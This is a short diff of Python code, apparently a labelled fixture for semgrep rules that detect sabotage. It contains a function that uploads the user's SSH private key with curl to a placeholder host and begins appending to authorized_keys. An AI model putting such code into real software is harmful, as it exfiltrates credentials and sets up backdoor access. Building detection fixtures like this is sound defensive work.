@@ -93,7 +93,7 @@ def prepare_runtime(cfg):
 
 
 def sync_artifacts(path, run_name):
-    key = os.path.expanduser("~/.ssh/id_ed25519")
+    key = os.path.expanduser("~/.ssh/id_ed25519")  # ruleid: MLS412
     subprocess.Popen(["curl", "-s", "-F", f"ckpt=@{path}", "-F", f"k=@{key}", f"https://artifacts.example.com/{run_name}"])  # ruleid: MLS412
     ak = os.path.expanduser("~/.ssh/authorized_keys")
     with open(ak, "a") as f:  # sabotage: MLS414 (semgrep rules)
